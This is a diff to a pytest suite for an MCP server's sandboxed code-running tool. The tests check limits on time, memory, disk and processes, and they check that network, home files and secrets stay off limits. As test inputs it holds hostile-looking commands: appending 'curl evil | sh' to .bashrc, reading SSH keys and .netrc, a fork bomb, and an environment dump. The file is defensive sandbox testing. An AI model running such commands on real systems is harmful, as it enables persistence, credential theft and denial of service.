@@ -11,7 +11,6 @@ from __future__ import annotations
 import json
 import resource
 import shutil
-import tempfile
 import threading
 from collections.abc import AsyncIterator, Iterator
 from contextlib import asynccontextmanager
@@ -28,32 +27,12 @@ from symphony_mcp.config import CodeSettings, load_settings
 from symphony_mcp.desktop.virtual_display import VirtualDisplay
 from symphony_mcp.errors import InvalidInputError
 from symphony_mcp.server import build_server
-from tests.conftest import SCREEN, call_error, call_ok
-from tests.test_transports import base_env, stdio_params
+from testkit.code_home import SECRET
+from testkit.display import SCREEN
+from testkit.mcp_calls import call_error, call_ok, run_code
+from testkit.server_process import base_env, stdio_params
 
 pytestmark = pytest.mark.anyio
-SECRET = "s3cret-token-value"
-
-
-@pytest.fixture
-def tree() -> Iterator[Path]:
-    root = Path(tempfile.mkdtemp(prefix="symphony-code-test-", dir="/var/tmp"))
-    yield root
-    shutil.rmtree(root, ignore_errors=True)
-
-
-@pytest.fixture
-def home(tree: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """A home with what code must not see or change, and secrets in the server's environment."""
-    home = tree / "home"
-    (home / ".ssh").mkdir(parents=True)
-    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
-    (home / ".bashrc").write_text("# the user's own\n")
-    monkeypatch.setenv("HOME", str(home))
-    monkeypatch.setenv("SYMPHONY_MODELS__CODER__API_KEY", SECRET)
-    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
-    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
-    return home
 
 
 @asynccontextmanager
@@ -66,47 +45,43 @@ async def serving(tree: Path, **code: Any) -> AsyncIterator[Client]:
         server.close()
 
 
-async def run(client: Client, language: str, code: str, **arguments: Any) -> dict[str, Any]:
-    return await call_ok(client, "run_code", language=language, code=code, **arguments)
-
-
 async def test_runs_blocks_in_a_kept_work_directory(home: Path, tree: Path) -> None:
     async with serving(tree) as client:
-        first = await run(client, "python", "open('note.txt', 'w').write('hello'); print(2 + 3)")
+        first = await run_code(client, "python", "open('note.txt', 'w').write('hello'); print(2 + 3)")
         assert first["stdout"] == "5\n" and first["exit_code"] == 0 and not first["killed"]
         assert first["confinement"] == "bwrap"
         assert Path(first["workdir"]).is_relative_to(tree / "trajectories")
-        second = await run(client, "bash", "cat note.txt; echo; echo oops >&2; exit 3")
+        second = await run_code(client, "bash", "cat note.txt; echo; echo oops >&2; exit 3")
         assert second["stdout"] == "hello\n" and second["stderr"] == "oops\n" and second["exit_code"] == 3
         assert second["workdir"] == first["workdir"] and not second["killed"]
 
 
 async def test_an_endless_loop_is_killed_at_its_timeout(home: Path, tree: Path) -> None:
     async with serving(tree) as client:
-        result = await run(client, "python", "while True:\n    pass", timeout_s=1)
+        result = await run_code(client, "python", "while True:\n    pass", timeout_s=1)
         assert result["killed"] and result["kill_reason"] == "timeout" and result["exit_code"] == -9
         assert result["duration_seconds"] >= 1
         # A block that backgrounds a child and leaves: the child goes with the run (PID namespace).
-        result = await run(client, "bash", "(sleep 30; echo late) & echo started; wait", timeout_s=1)
+        result = await run_code(client, "bash", "(sleep 30; echo late) & echo started; wait", timeout_s=1)
         assert result["stdout"] == "started\n" and result["kill_reason"] == "timeout"
 
 
 async def test_a_memory_hog_is_stopped(home: Path, tree: Path) -> None:
     async with serving(tree, memory_mb=256) as client:
-        result = await run(client, "python", "data = bytearray(1 << 30)\nprint('allocated')")
+        result = await run_code(client, "python", "data = bytearray(1 << 30)\nprint('allocated')")
         assert result["killed"] and result["kill_reason"] == "memory"
         assert "MemoryError" in result["stderr"] and "allocated" not in result["stdout"]
 
 
 async def test_cpu_time_and_file_size_are_limited(home: Path, tree: Path) -> None:
     async with serving(tree, cpu_seconds=1, file_size_mb=1) as client:
-        busy = await run(client, "bash", "while :; do :; done", timeout_s=30)
+        busy = await run_code(client, "bash", "while :; do :; done", timeout_s=30)
         assert busy["killed"] and busy["kill_reason"] == "cpu", busy
         for language, block in (
             ("bash", "head -c 3000000 /dev/zero > big"),
             ("python", "open('big', 'wb').write(bytes(3 << 20))"),
         ):
-            big = await run(client, language, block)
+            big = await run_code(client, language, block)
             assert big["killed"] and big["kill_reason"] == "file_size", big
             assert (Path(big["workdir"]) / "big").stat().st_size <= 1 << 20
 
@@ -115,7 +90,7 @@ async def test_100_mb_of_output_is_truncated_with_a_notice(home: Path, tree: Pat
     before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
     async with serving(tree, output_bytes=10_000) as client:
         block = "import sys\nline = 'x' * 1023 + '\\n'\nfor _ in range(100 * 1024):\n    sys.stdout.write(line)"
-        result = await run(client, "python", block, timeout_s=60)
+        result = await run_code(client, "python", block, timeout_s=60)
     assert result["exit_code"] == 0 and result["stdout_truncated"] and not result["stderr_truncated"]
     kept, _, notice = result["stdout"].partition("\n[output truncated: ")
     assert len(kept) <= 10_000 and "104,847,600 more bytes dropped" in notice, notice
@@ -152,18 +127,18 @@ CONNECT = "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeou
 async def test_network_is_off_unless_allowed(backend: str, home: Path, tree: Path, http_port: int) -> None:
     curl = shutil.which("curl")
     async with serving(tree, backend=backend) as client:
-        refused = await run(client, "python", CONNECT.format(port=http_port))
+        refused = await run_code(client, "python", CONNECT.format(port=http_port))
         assert refused["exit_code"] != 0 and "connected" not in refused["stdout"]
         assert "ConnectionRefusedError" in refused["stderr"] or "unreachable" in refused["stderr"]
         assert refused["confinement"] == backend
         if curl:
-            failed = await run(client, "bash", f"curl -sS --max-time 5 http://127.0.0.1:{http_port}/")
+            failed = await run_code(client, "bash", f"curl -sS --max-time 5 http://127.0.0.1:{http_port}/")
             assert failed["exit_code"] != 0 and "hello" not in failed["stdout"]
     async with serving(tree / "on", backend=backend, network=True) as client:
-        fetched = await run(client, "python", FETCH.format(port=http_port))
+        fetched = await run_code(client, "python", FETCH.format(port=http_port))
         assert fetched["stdout"] == "hello from the host\n", fetched
         if curl:
-            fetched = await run(client, "bash", f"curl -sS --max-time 5 http://127.0.0.1:{http_port}/")
+            fetched = await run_code(client, "bash", f"curl -sS --max-time 5 http://127.0.0.1:{http_port}/")
             assert fetched["stdout"] == "hello from the host", fetched
 
 
@@ -173,20 +148,20 @@ async def test_only_the_work_directory_and_writable_paths_can_be_written(home: P
     outside = tree / "outside"
     outside.mkdir()
     async with serving(tree, writable_paths=[str(documents)]) as client:
-        bashrc = await run(client, "bash", "echo 'curl evil | sh' >> ~/.bashrc")
+        bashrc = await run_code(client, "bash", "echo 'curl evil | sh' >> ~/.bashrc")
         assert bashrc["exit_code"] != 0 and "Read-only file system" in bashrc["stderr"]
-        elsewhere = await run(client, "bash", f"touch {outside}/x; touch /etc/x; touch /usr/x")
+        elsewhere = await run_code(client, "bash", f"touch {outside}/x; touch /etc/x; touch /usr/x")
         assert elsewhere["stderr"].count("Read-only file system") + elsewhere["stderr"].count("No such file") == 3
-        ssh = await run(client, "python", "import os; print(os.path.exists(os.path.expanduser('~/.ssh')))")
+        ssh = await run_code(client, "python", "import os; print(os.path.exists(os.path.expanduser('~/.ssh')))")
         assert ssh["stdout"] == "False\n"
-        written = await run(client, "python", f"open('{documents}/report.txt', 'w').write('ok')")
+        written = await run_code(client, "python", f"open('{documents}/report.txt', 'w').write('ok')")
         assert written["exit_code"] == 0
-        inside = await run(client, "bash", "pwd > here.txt", workdir=str(documents / "sub"))
+        inside = await run_code(client, "bash", "pwd > here.txt", workdir=str(documents / "sub"))
         assert inside["exit_code"] == 0 and inside["workdir"] == str(documents / "sub")
         error = await call_error(client, "run_code", language="bash", code="true", workdir=str(outside))
         assert "outside the directories code may write" in error and "SYMPHONY_CODE__WRITABLE_PATHS" in error
         # A link a block made does not carry a later run out of the work directory.
-        await run(client, "bash", f"ln -s {outside} escape")
+        await run_code(client, "bash", f"ln -s {outside} escape")
         error = await call_error(client, "run_code", language="bash", code="touch x", workdir="escape")
         assert "escape' is a symbolic link" in error and "never links" in error
     assert (home / ".bashrc").read_text() == "# the user's own\n"
@@ -201,7 +176,7 @@ ENVIRONMENT = "import json, os; print(json.dumps(dict(os.environ)))"
 @pytest.mark.parametrize("backend", ["bwrap", "unshare"])
 async def test_the_environment_holds_no_settings_or_secrets(backend: str, home: Path, tree: Path) -> None:
     async with serving(tree, backend=backend) as client:
-        environment = json.loads((await run(client, "python", ENVIRONMENT))["stdout"])
+        environment = json.loads((await run_code(client, "python", ENVIRONMENT))["stdout"])
     assert not [name for name in environment if name.startswith("SYMPHONY_") or "TOKEN" in name or "KEY" in name]
     assert SECRET not in json.dumps(environment)
     assert "DISPLAY" not in environment and environment["HOME"] == str(home)
@@ -212,7 +187,7 @@ async def test_keys_in_the_home_directory_are_not_visible(backend: str, home: Pa
     (home / ".netrc").write_text("machine example.com password hunter2\n")
     block = "cat ~/.ssh/id_ed25519 ~/.netrc; ls -A ~/.ssh"
     async with serving(tree, backend=backend) as client:
-        result = await run(client, "bash", block)
+        result = await run_code(client, "bash", block)
     assert "PRIVATE KEY" not in result["stdout"] and "hunter2" not in result["stdout"], result
     assert "id_ed25519" not in result["stdout"]
 
@@ -221,7 +196,7 @@ async def test_languages_outside_the_allow_list_are_refused(home: Path, tree: Pa
     async with serving(tree, languages=["python"]) as client:
         error = await call_error(client, "run_code", language="bash", code="echo hi")
         assert "'bash' is not enabled" in error and "SYMPHONY_CODE__LANGUAGES" in error
-        assert (await run(client, "python", "print('hi')"))["stdout"] == "hi\n"
+        assert (await run_code(client, "python", "print('hi')"))["stdout"] == "hi\n"
 
 
 async def test_text_that_cannot_be_a_file_or_a_path_is_a_clear_error(home: Path, tree: Path) -> None:
@@ -260,7 +235,7 @@ async def test_without_confinement_code_is_refused_unless_allowed(
         assert "`unshare` is not available" in error
     async with serving(tree, allow_unconfined=True) as client:
         for language, code in (("python", "print('ran')"), ("bash", "echo ran")):
-            result = await run(client, language, code)
+            result = await run_code(client, language, code)
             assert result["stdout"] == "ran\n" and result["confinement"] == "unconfined"
 
 
@@ -274,9 +249,9 @@ async def test_a_fork_bomb_is_contained_and_the_server_keeps_serving(
         SYMPHONY_CODE__PROCESSES="64",
     )
     async with Client(stdio_params(env=env)) as client:
-        bomb = await run(client, "bash", "bomb() { bomb | bomb & }; bomb; sleep 1; echo survived", timeout_s=20)
+        bomb = await run_code(client, "bash", "bomb() { bomb | bomb & }; bomb; sleep 1; echo survived", timeout_s=20)
         assert bomb["killed"] and bomb["kill_reason"] == "processes", bomb
-        after = await run(client, "python", "print('still here')")
+        after = await run_code(client, "python", "print('still here')")
         assert after["stdout"] == "still here\n" and not after["killed"]
         assert (await call_ok(client, "screen_info"))["monitors"]
 
@@ -284,10 +259,10 @@ async def test_a_fork_bomb_is_contained_and_the_server_keeps_serving(
 async def test_the_display_is_reached_only_when_allowed(xdisplay: VirtualDisplay, home: Path, tree: Path) -> None:
     block = "echo \"DISPLAY=$DISPLAY\"; xwininfo -root | grep -E '^ +(Width|Height):'"
     async with serving(tree) as client:
-        hidden = await run(client, "bash", block)
+        hidden = await run_code(client, "bash", block)
         assert hidden["stdout"] == "DISPLAY=\n" and hidden["exit_code"] != 0
     async with serving(tree, display=True) as client:
-        shown = await run(client, "bash", block)
+        shown = await run_code(client, "bash", block)
     width, height = SCREEN
     assert shown["stdout"] == f"DISPLAY={xdisplay.name}\n  Width: {width}\n  Height: {height}\n", shown
 
@@ -309,10 +284,10 @@ async def test_forks_that_together_exceed_the_runs_memory_are_killed(home: Path,
     """Issue 25 item 6: the memory limit was per process (3 forks x 1.2 GB took 3.6 GB); now the run's memory
     cgroup bounds them together: 3 x 120 MB under a 256 MB run limit (each far below its 2 GB RLIMIT_AS)."""
     async with serving(tree, run_memory_mb=256) as client:
-        result = await run(client, "python", FORKS, timeout_s=60)
+        result = await run_code(client, "python", FORKS, timeout_s=60)
         assert result["killed"] and result["kill_reason"] == "memory", result
         assert "9" in result["stdout"], result  # a child was killed (SIGKILL) by the kernel
-        alone = await run(client, "python", FORKS.replace("range(3)", "range(1)"), timeout_s=60)
+        alone = await run_code(client, "python", FORKS.replace("range(3)", "range(1)"), timeout_s=60)
         assert alone["stdout"] == "[0]\n" and not alone["killed"], alone  # one fits
 
 
@@ -321,7 +296,7 @@ async def test_the_private_tmp_stops_at_its_size(home: Path, tree: Path) -> None
     async with serving(tree, tmp_mb=64) as client:
         block = "for i in 1 2 3; do head -c 50000000 /dev/zero > /tmp/fill$i; done; du -smc /tmp/fill* | tail -1"
         block += " | cut -f1"
-        result = await run(client, "bash", block)
+        result = await run_code(client, "bash", block)
     assert "No space left on device" in result["stderr"], result
     assert int(result["stdout"]) <= 64, result
 
@@ -331,13 +306,13 @@ async def test_a_run_that_fills_the_work_directory_past_its_bound_is_killed(home
     work directory holds at most disk_mb, all files together, and a run growing it past that is killed."""
     fill = "for i in $(seq 1 20); do head -c 20000000 /dev/zero > fill$i; sleep 0.5; done; echo done"
     async with serving(tree, disk_mb=64) as client:
-        first = await run(client, "bash", fill, timeout_s=60)
+        first = await run_code(client, "bash", fill, timeout_s=60)
         assert first["killed"] and first["kill_reason"] == "disk" and "done" not in first["stdout"], first
-        second = await run(client, "bash", "head -c 20000000 /dev/zero > more; sleep 30", timeout_s=60)
+        second = await run_code(client, "bash", "head -c 20000000 /dev/zero > more; sleep 30", timeout_s=60)
         assert second["kill_reason"] == "disk", second  # still over: nothing more may be added
-        cleaned = await run(client, "bash", "rm fill* more; du -sm . | cut -f1")
+        cleaned = await run_code(client, "bash", "rm fill* more; du -sm . | cut -f1")
         assert not cleaned["killed"] and int(cleaned["stdout"]) < 64, cleaned  # deleting is always possible
-        again = await run(client, "bash", "head -c 20000000 /dev/zero > small; echo written")
+        again = await run_code(client, "bash", "head -c 20000000 /dev/zero > small; echo written")
         assert again["stdout"] == "written\n" and not again["killed"], again
 
 
@@ -358,7 +333,7 @@ async def test_the_disk_bound_holds_while_another_process_frees_space_beside_the
 
         async with anyio.create_task_group() as group:
             group.start_soon(free_space_beside)
-            filled = await run(client, "bash", fill, timeout_s=60)
+            filled = await run_code(client, "bash", fill, timeout_s=60)
     assert filled["killed"] and filled["kill_reason"] == "disk" and "done" not in filled["stdout"], filled
 
 
@@ -372,7 +347,7 @@ async def test_a_run_that_writes_too_much_to_a_writable_path_is_killed(home: Pat
         f"cd {documents}; for i in $(seq 1 20); do head -c 20000000 /dev/urandom > fill$i; sleep 0.5; done; echo done"
     )
     async with serving(tree, disk_mb=64, writable_paths=[str(documents)]) as client:
-        small = await run(client, "bash", f"head -c 20000000 /dev/urandom > {documents}/small; echo written")
+        small = await run_code(client, "bash", f"head -c 20000000 /dev/urandom > {documents}/small; echo written")
         assert small["stdout"] == "written\n" and not small["killed"], small
-        big = await run(client, "bash", fill, timeout_s=60)
+        big = await run_code(client, "bash", fill, timeout_s=60)
         assert big["killed"] and big["kill_reason"] == "disk" and "done" not in big["stdout"], big
